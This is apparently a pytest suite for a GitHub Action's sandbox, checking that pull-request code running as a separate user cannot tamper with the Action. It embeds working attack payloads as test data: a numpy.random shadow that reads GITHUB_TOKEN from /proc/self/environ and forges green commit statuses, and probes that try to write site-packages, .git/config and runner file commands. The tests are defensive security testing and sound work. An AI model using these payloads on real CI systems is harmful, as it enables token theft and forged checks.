"""The boundary, in the Action's image run as GitHub's runner runs it: the pull request's code
runs as the image's user ``retrieval-eval-pr`` and cannot write the Action, its libraries, the
model, the workspace or the run's files, nor read the Action's process or the runner's folders.

Each test is a pull request whose ``custom`` retriever (a command, code from the pull request)
attacks, then answers searches so the run reaches a verdict. What the attack could and could
not do, it reports to the fake GitHub API on 127.0.0.1 (``POST /attack``), the one channel it
keeps; the Action's verdict and status say whether it mattered.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from retrieval_eval.trust.boundary import CHILD_UID, CHILD_USER
from tests.action.git_repo import commit_all, git, write
from tests.action.payloads import push_event
from tests.action.project import CONFIG, new_project
from tests.container.runner import ContainerRun, run_container
from tests.container.test_runner_container import (
    MERGE_SHA,
    RUNNER_USER,
    assert_clean,
    open_pull,
)
from tests.support.fake_github import FakeGitHub
from tests.support.runner_env import TOKEN

pytestmark = [pytest.mark.container, pytest.mark.slow]

# Sends what it learnt to the fake GitHub (the API URL is not withheld), then serves the
# protocol: every document, in corpus order, for every query (a regression on keyword.jsonl).
SERVE = r"""
def report(findings):
    import urllib.request
    request = urllib.request.Request(
        os.environ["GITHUB_API_URL"] + "/attack",
        data=json.dumps(findings).encode(),
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    try:
        urllib.request.urlopen(request, timeout=10).read()
    except Exception:
        pass  # the fake answers 404; it has recorded the body


def serve():
    docs = []
    for line in sys.stdin:
        request = json.loads(line)
        if request["op"] == "index":
            docs = [d["id"] for d in request["documents"]]
            print(json.dumps({"ok": True}), flush=True)
        else:
            hits = [{"id": d, "score": 1.0 / (i + 1)} for i, d in enumerate(docs)]
            print(json.dumps({"hits": hits}), flush=True)
"""

# The audit's attack: shadow numpy.random (which the Action imports after the search) with a
# module that reads the token from the Action's own /proc/self/environ, leaves it in the
# workspace and turns every status the Action sets into a green one.
PAYLOAD = r"""
import os as _os
try:
    with open("/proc/self/environ", "rb") as _handle:
        _seen = _handle.read().split(b"\0")
    _token = [e for e in _seen if e.startswith((b"GITHUB_TOKEN=", b"INPUT_GITHUB-TOKEN="))]
    with open(_os.path.join(_os.getcwd(), "pwned.txt"), "wb") as _out:
        _out.write(b"\n".join(_token) or b"no token")
    from retrieval_eval.action import github_api as _api
    _real = _api.GitHubApi.create_status
    def _green(self, sha, *, state, description, context, target_url):
        return _real(self, sha, state="success", description="Passed",
                     context=context, target_url=target_url)
    _api.GitHubApi.create_status = _green
except Exception as _error:
    pass
"""

# The image keeps numpy/random/__init__.pyc only: a source beside it is imported instead, so
# the attack writes one that runs the compiled module, then the payload.
SHADOW = (
    "import sys, importlib.machinery as _m\n"
    "_m.SourcelessFileLoader(__name__, __file__ + 'c').exec_module(sys.modules[__name__])\n"
)
ATTACK = (
    "import json, os, sys, sysconfig\n"
    + SERVE
    + f"\nPAYLOAD, SHADOW = {PAYLOAD!r}, {SHADOW!r}\n"
    + r"""
source = os.path.join(sysconfig.get_paths()["purelib"], "numpy", "random", "__init__.py")
findings = {"uid": os.getuid()}
try:
    if os.path.exists(source):
        with open(source, "a") as handle:
            handle.write(PAYLOAD)
    else:
        with open(source, "x") as handle:
            handle.write(SHADOW + PAYLOAD)
    findings["numpy"] = "written"
except OSError as error:
    findings["numpy"] = type(error).__name__
report(findings)
serve()
"""
)

# Tries every door the boundary closes, and the two it leaves open (HOME and TMPDIR).
PROBE = (
    "import json, os, signal, sys, sysconfig\n"
    + SERVE
    + r"""
def attempt(action):
    try:
        action()
        return "done"
    except OSError as error:
        return type(error).__name__


def append(path):
    return lambda: open(path, "a").close()


def create(path):
    return lambda: open(path, "x").close()


def read(path):
    return lambda: open(path, "rb").read(1)


site = sysconfig.get_paths()["purelib"]
model = os.environ.get("RETRIEVAL_EVAL_MODEL_DIR", "/opt/retrieval-eval/model")
parent = os.getppid()
findings = {
    "uid": os.getuid(),
    "gid": os.getgid(),
    "groups": os.getgroups(),
    "env": {
        name: os.environ.get(name)
        for name in ("RUNNER_TEMP", "GITHUB_TOKEN", "INPUT_GITHUB-TOKEN", "GITHUB_OUTPUT",
                     "GITHUB_STEP_SUMMARY", "GITHUB_ENV")
    },
    "home": os.environ.get("HOME"),
    "tmpdir": os.environ.get("TMPDIR"),
    "home_was_empty": os.listdir(os.environ["HOME"]) == [],
    "fds": {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")
            if os.path.exists(f"/proc/self/fd/{fd}")},
    "write": {
        "site-packages": create(os.path.join(site, "evil.pth")),
        "numpy": append(os.path.join(site, "numpy", "__init__.pyc")),
        "product": append(os.path.join(site, "retrieval_eval", "__init__.py")),
        "model": create(os.path.join(model, "evil.onnx")),
        "workspace": create("evil.txt"),
        "baseline": append("baseline.json"),
        "history": append("retrieval-eval-history.jsonl"),
        "report_dir": create("retrieval-eval-report/evil.json"),
        "cache_dir": create(".retrieval-eval-cache/evil.sqlite3"),
        "git": append(".git/config"),
        "file_commands": create("/github/file_commands/set_env_evil"),
        "home": create(os.path.join(os.environ["HOME"], "mine")),
        "tmpdir": create(os.path.join(os.environ["TMPDIR"], "mine")),
    },
    "read": {
        "workspace": read("retrieval-eval.toml"),
        "parent_environ": read(f"/proc/{parent}/environ"),
        "parent_mem": read(f"/proc/{parent}/mem"),
        "pid1_environ": read("/proc/1/environ"),
    },
    "list": {
        "file_commands": lambda: os.listdir("/github/file_commands"),
        "runner_home": lambda: os.listdir("/github/home"),
    },
    "signal_parent": lambda: os.kill(parent, 0),
}
for group in ("write", "read", "list"):
    findings[group] = {name: attempt(action) for name, action in findings[group].items()}
findings["signal_parent"] = attempt(findings["signal_parent"])
report(findings)
serve()
"""
)


# A Python factory (it runs in the Python process of its own the Action starts for it): the
# same attack on numpy.random from inside the factory, then every document in corpus order.
FACTORY = r"""
import json, os, sysconfig, urllib.request
from retrieval_eval.api import Hit, SearchResult


class Mine:
    name = "mine"

    def index(self, corpus):
        self.ids = [document.id for document in corpus.documents]

    def search(self, query, k, tags=()):
        ranked = enumerate(self.ids[:k])
        return SearchResult(hits=tuple(Hit(i, 1.0 / (n + 1), "") for n, i in ranked))

    def describe(self):
        return {}


def make(**options):
    target = os.path.join(sysconfig.get_paths()["purelib"], "numpy", "random", "__init__.py")
    try:
        open(target, "x").close()
        result = "written"
    except OSError as error:
        result = type(error).__name__
    findings = {"uid": os.getuid(), "numpy": result, "home": os.environ.get("HOME")}
    request = urllib.request.Request(
        os.environ["GITHUB_API_URL"] + "/attack", data=json.dumps(findings).encode(),
        headers={"Content-Type": "application/json"}, method="POST",
    )
    try:
        urllib.request.urlopen(request, timeout=10).read()
    except Exception:
        pass
    return Mine()
"""


def custom_retriever(script: str) -> dict[str, str]:
    if script is FACTORY:
        table, files = 'python = "mine:make"\n', {"mine.py": script}
    else:
        table, files = 'command = ["python3", "search.py"]\n', {"search.py": script}
    config = (
        CONFIG + '\n[dataset_retrievers]\n"keyword.jsonl" = "custom"\n\n'
        "[retrievers.custom]\n" + table
    )
    return {"retrieval-eval.toml": config, **files}


def give(workspace: Path, owner: tuple[int, int]) -> None:
    """The workspace as the runner leaves it is its user's (``RUNNER_USER``), as checkout
    wrote it; the test's own git commands want it back (git refuses another user's)."""
    for folder, dirs, files in os.walk(workspace):
        for name in (folder, *(os.path.join(folder, n) for n in (*dirs, *files))):
            os.chown(name, *owner, follow_symlinks=False)


def run_as_runner(workspace: Path, image: str, *args: Any, **kwargs: Any) -> ContainerRun:
    give(workspace, RUNNER_USER)
    try:
        return run_container(image, workspace, *args, **kwargs)
    finally:
        give(workspace, (0, 0))


def attack_reports(github: FakeGitHub) -> list[dict[str, Any]]:
    return [request.body for request in github.requests_to("POST", r"/attack$")]


def pull_request_with(
    image: str, github: FakeGitHub, tmp_path: Path, script: str, **options: Any
) -> tuple[ContainerRun, str]:
    """A baseline on main (a push run in the image, committed), then pull request 21 whose
    retriever is ``script``; returns the pull request's run and its head."""
    workspace = tmp_path / "workspace"
    main = new_project(workspace)
    pushed = run_as_runner(
        workspace, image, tmp_path / "push", event_name="push", payload=push_event(main),
        api_url=github.base_url, sha=main,
    )  # fmt: skip
    assert pushed.returncode == 0, pushed.log
    main = commit_all(workspace, "retrieval-eval: establish baseline")
    git(workspace, "checkout", "-q", "-b", "feature")
    write(workspace, custom_retriever(script))
    head = commit_all(workspace, "my own retriever")
    event = open_pull(github, workspace, 21, main, head)
    run = run_as_runner(
        workspace, image, tmp_path / "pr", event_name="pull_request", payload=event,
        api_url=github.base_url, sha=MERGE_SHA, **options,
    )  # fmt: skip
    return run, head


def test_the_audits_attack_cannot_rewrite_numpy_and_the_check_stays_red(
    action_image: str, github: FakeGitHub, tmp_path: Path
) -> None:
    """Round 4's worst defect: the retriever shadowed numpy.random with a payload that ran
    later inside the Action, read the token from /proc/self/environ and wrapped the status
    call, and a regressing pull request got a green check."""
    run, head = pull_request_with(action_image, github, tmp_path, ATTACK)

    assert [s["state"] for s in github.statuses_for(head)] == ["failure"]
    assert not (tmp_path / "workspace" / "pwned.txt").exists()
    assert run.returncode == 1, run.log
    assert run.outputs["verdict"] == "regression"
    assert_clean(run)
    [report] = attack_reports(github)
    assert (report["uid"], report["numpy"]) == (CHILD_UID, "PermissionError"), report


def test_the_pull_requests_code_reaches_nothing_of_the_actions(
    action_image: str, github: FakeGitHub, tmp_path: Path
) -> None:
    run, head = pull_request_with(action_image, github, tmp_path, PROBE)

    assert run.returncode == 1, run.log
    assert [s["state"] for s in github.statuses_for(head)] == ["failure"]
    [seen] = attack_reports(github)
    # A user of its own: not root, not the runner's user, in no group but its own.
    assert (seen["uid"], seen["gid"]) == (CHILD_UID, CHILD_UID)
    assert set(seen["groups"]) <= {CHILD_UID}
    # No credential, no runner path, and no descriptor but its three pipes (and the
    # listing of /proc/self/fd itself).
    assert seen["env"] == dict.fromkeys(seen["env"]), seen["env"]
    extra = {fd: target for fd, target in seen["fds"].items() if fd not in {"0", "1", "2"}}
    assert all(re.fullmatch(r"/proc/\d+/fd", target) for target in extra.values()), extra
    assert all(seen["fds"][fd].startswith("pipe:") for fd in ("0", "1", "2")), seen["fds"]
    # A HOME and TMPDIR of its own, fresh, and the only places it writes.
    assert seen["home"] != "/github/home" and seen["home_was_empty"] is True
    assert Path(seen["home"]).parent == Path(seen["tmpdir"]).parent
    writable = {name for name, result in seen["write"].items() if result == "done"}
    assert writable == {"home", "tmpdir"}, seen["write"]
    # It reads the workspace; not the Action's process, nor the runner's folders.
    assert seen["read"] == {
        "workspace": "done",
        "parent_environ": "PermissionError",
        "parent_mem": "PermissionError",
        "pid1_environ": "PermissionError",
    }
    assert seen["list"] == dict.fromkeys(seen["list"], "PermissionError"), seen["list"]
    assert seen["signal_parent"] == "PermissionError"
    workspace = tmp_path / "workspace"
    assert not (workspace / "evil.txt").exists()
    assert json.loads((workspace / "baseline.json").read_text(encoding="utf-8"))
    # The runner's folders have their modes back.
    assert (tmp_path / "pr" / "fc").stat().st_mode & 0o777 == 0o755
    assert (tmp_path / "pr" / "home").stat().st_mode & 0o777 == 0o755


def test_a_python_factory_runs_as_the_user_too(
    action_image: str, github: FakeGitHub, tmp_path: Path
) -> None:
    run, head = pull_request_with(action_image, github, tmp_path, FACTORY)

    [seen] = attack_reports(github)
    assert (seen["uid"], seen["numpy"]) == (CHILD_UID, "PermissionError"), seen
    assert seen["home"] != "/github/home"
    assert run.returncode == 1, run.log
    assert run.outputs["verdict"] == "regression"
    assert [s["state"] for s in github.statuses_for(head)] == ["failure"]


def test_without_its_user_the_image_runs_no_pull_request_code(
    action_image: str, github: FakeGitHub, tmp_path: Path
) -> None:
    """Fail closed: an image whose /etc/passwd lacks the user (here, one mounted over it)
    never runs the pull request's code as root; the run is an error with a status."""
    passwd = tmp_path / "passwd"
    passwd.write_text("root:x:0:0:root:/root:/bin/sh\n", encoding="utf-8")
    passwd.chmod(0o644)

    run, head = pull_request_with(
        action_image, github, tmp_path, PROBE, docker_options=("-v", f"{passwd}:/etc/passwd:ro")
    )

    assert attack_reports(github) == []
    assert run.returncode == 2, run.log
    assert run.outputs["verdict"] == "error"
    assert f"no user `{CHILD_USER}`" in run.log
    assert [s["state"] for s in github.statuses_for(head)] == ["error"]
    assert TOKEN not in run.log.replace(f"::add-mask::{TOKEN}", "")
